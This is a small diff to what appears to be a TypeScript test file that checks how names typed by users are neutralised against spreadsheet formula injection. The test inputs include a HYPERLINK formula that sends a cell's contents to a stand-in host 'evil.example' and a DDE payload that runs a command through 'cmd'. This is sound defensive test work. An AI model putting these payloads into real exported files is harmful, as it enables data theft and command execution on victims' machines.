@@ -11,7 +11,7 @@ import { startTestServer, type TestClient, type TestServer } from '../../helpers
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 /** Names a person can type (the API keeps them as typed). */
-const TYPED = [HYPERLINK, '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd'];
+const TYPED = [HYPERLINK, "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd'];
 /** A tab or a return first cannot be typed (names are trimmed): stored as older data might be. */
 const STORED = ['\t=1+1', '\r=1+1'];
 /** An e-mail address may itself start with '-'. */
